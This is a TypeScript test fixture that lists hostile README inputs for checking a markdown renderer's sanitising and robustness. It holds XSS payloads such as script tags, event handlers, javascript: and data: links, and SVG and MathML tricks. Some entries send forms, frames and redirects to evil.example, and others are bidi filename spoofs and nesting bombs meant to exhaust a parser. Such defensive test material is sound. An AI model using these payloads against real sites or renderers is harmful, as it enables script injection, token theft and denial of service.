/** READMEs as a stranger might write them: what must not run, load, or keep a server busy. */

const deep = (open: string, close: string, times: number) =>
  `${open.repeat(times)}x${close.repeat(times)}`;

export const HOSTILE: Readonly<Record<string, string>> = {
  "a script": "<script>window.hacked = 1</script>\n\n<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "a broken script": "<scr<script>ipt>window.hacked = 1</scr</script>ipt>",
  "event handlers":
    '<img src=x onerror="window.hacked = 1"><p onmouseover=hack()>a</p><details open ontoggle="hack()">',
  "script links":
    "[a](javascript:hack()) [b](JaVaScRiPt:hack()) [c](&#106;avascript:hack()) <javascript:hack()>\n\n" +
    '<a href="java\nscript:hack()">d</a> [e]: javascript:hack()\n',
  "data links": '[a](data:text/html;base64,PHNjcmlwdD4=) <a href="data:text/html,<script>">b</a>',
  "an inline SVG":
    '<svg onload="hack()"><script>hack()</script><a xlink:href="javascript:hack()"><text>a</text></a></svg>',
  "MathML and mutation":
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hack()&gt;">',
  "frames and forms":
    '<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x>' +
    '<form action="https://evil.example"><input name=token><button formaction="javascript:hack()">ok</button></form>',
  "a refresh and a base":
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><link rel=stylesheet href=x>',
  styles:
    '<style>body{display:none}</style><div style="position:fixed;inset:0;background:url(https://evil.example)">a</div>',
  "comments and CDATA": "<!--><img src=x onerror=hack()>--> <![CDATA[<script>hack()</script>]]>",
  "unfinished tags": '<img src="x" onerror="hack()"\n\n<a href="javascript:hack()" ',
  "a code fence's language": '```"><script>hack()</script>\nx\n```',
  "a forged title": '[a](https://example.com "\\" onmouseover=\\"hack()")',
  "text that turns around": "\u202egnp.exe\u202c \u2066a\u2069 `\u202e code`",
  "nul and control characters": "a\u0000b\u0008 <scr\u0000ipt>hack()</scr\u0000ipt>",
  "a huge table": `|${"a|".repeat(2000)}\n|${"-|".repeat(2000)}\n${"|x\n".repeat(2000)}`,
  "many rows": `| a | b |\n| - | - |\n${"| x | y |\n".repeat(20_000)}`,
  "deep quotes": `${">".repeat(50_000)} x`,
  "deep lists": Array.from({ length: 2000 }, (_, i) => `${" ".repeat(i * 2)}- x`)
    .join("\n")
    .slice(0, 200_000),
  "deep emphasis": deep("*a **a ", " b** b*", 10_000),
  "deep brackets": deep("[", "](x)", 40_000),
  "open brackets": "[".repeat(150_000),
  "open links": "[a](".repeat(40_000),
  "open images": "![".repeat(80_000),
  "open tags": "<a ".repeat(60_000),
  "deep tags": deep("<div>", "</div>", 20_000),
  "deep spans": deep("<b>", "</b>", 30_000),
  backticks: Array.from({ length: 600 }, (_, i) => "`".repeat(i)).join("a"),
  "open comments": "<!-- ".repeat(40_000),
  entities: "&#x26;".repeat(30_000),
  "a long line of code": `\`\`\`mbt\n${'let x = "\\{a}" '.repeat(12_000)}\n\`\`\``,
  "code of quotes": `\`\`\`js\n${"'\n".repeat(60_000)}\n\`\`\``,
  "reference definitions": Array.from({ length: 8000 }, (_, i) => `[${i}]: /x${i} "t"`).join("\n"),
};
